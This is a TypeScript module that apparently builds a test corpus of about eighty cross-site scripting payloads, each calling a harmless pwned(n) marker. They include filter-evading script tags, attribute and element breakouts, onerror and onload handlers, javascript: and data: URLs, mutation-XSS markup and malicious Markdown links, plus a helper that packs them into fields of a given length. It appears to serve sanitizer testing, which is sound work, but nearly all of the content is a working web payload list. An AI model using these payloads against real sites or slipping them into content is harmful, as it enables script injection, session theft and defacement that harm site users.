/**
 * Texts that run a script where they are taken for markup. Each calls `pwned(n)` with its own number, is one line, and
 * names no other server.
 */
const WAYS: readonly ((call: string) => string)[] = [
  // a script by itself, and spelled so that a filter may miss it
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</ScRiPt >`,
  (call) => `<script/x>${call}</script/y>`,
  (call) => `<scr<script></script>ipt>${call}</script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  // out of the text or attribute that holds it
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `\${(${call})}{{(${call})}}<script>${call}</script>`,
  (call) => `" autofocus tabindex=1 onfocus="${call}`,
  (call) => `" onmouseover="${call}" style="position:fixed;inset:0" x="`,
  // handlers of elements that load, fail or begin by themselves
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}"//`,
  (call) => `<IMG/SRC=x/ONERROR=${call}>`,
  (call) => `<img src=x onerror\n=\n"${call}">`.replaceAll('\n', '\t'),
  (call) => `<img srcset=x onerror=${call}>`,
  (call) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${call} onerror=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `' onerror='${call}' src='x`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><g onload=${call}></g></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><set onbegin=${call} attributeName=x to=1></svg>`,
  (call) => `<svg><image href=x onerror=${call}></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source onerror=${call} src=x></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<button autofocus onfocus=${call}>x</button>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<embed src=x onload=${call} onerror=${call}>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<style onload=${call}>p{}</style>`,
  (call) => `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationend=${call}>x</p>`,
  (call) =>
    `<p style="animation:k 1ms" onanimationstart=${call}>x</p><style>@keyframes k{}</style>`,
  (call) => `<custom-part tabindex=0 autofocus onfocus=${call}>x</custom-part>`,
  // addresses that are scripts
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe src="&#106;avascript:parent.${call}"></iframe>`,
  (call) => `<iframe src="java&Tab;script:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<object data="javascript:parent.${call}"></object>`,
  (call) => `<a href="javascript:${call}">read on</a>`,
  (call) => `<a href=" &#1;javascript:${call}">read on</a>`,
  (call) => `<form action="javascript:${call}"><button>send</button></form>`,
  (call) => `<form id=f></form><button form=f formaction="javascript:${call}">send</button>`,
  (call) => `<svg><a href="javascript:${call}"><text y=9>read on</text></a></svg>`,
  (call) => `<math><mi href="javascript:${call}">read on</mi></math>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//"><a href=x>read on</a>`,
  // markup that changes its meaning when it is parsed again
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template><img src=x onerror=${call}>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  // Markdown
  (call) => `[read on](javascript:${call})`,
  (call) => `[read on](JaVaScRiPt&colon;${call})`,
  (call) => `[read on](<java\tscript:${call}>)`,
  (call) => `[read on](data:text/html;base64,${btoa(`<script>${call}</script>`)})`,
  (call) => `![x" onerror="${call}](x)`,
  (call) => `![x](x "y" onerror="${call}")`,
  (call) => `<javascript:${call}>`,
  (call) => `[a]: javascript:${call} [read on][a]`,
  (call) => `\`\`\`x" onmouseover="${call}`,
];

/** Every text of the corpus; the number in its call is its place. */
export const PAYLOADS: readonly string[] = WAYS.map((way, at) => way(`pwned(${String(at)})`));

/** Payloads of one line that fit a field, in as many lines as it takes. */
export function packed(maxCharacters: number): readonly string[] {
  const lines: string[] = [];
  for (const payload of PAYLOADS) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + payload.length < maxCharacters) {
      lines[lines.length - 1] = `${last} ${payload}`;
    } else {
      lines.push(payload);
    }
  }
  return lines;
}
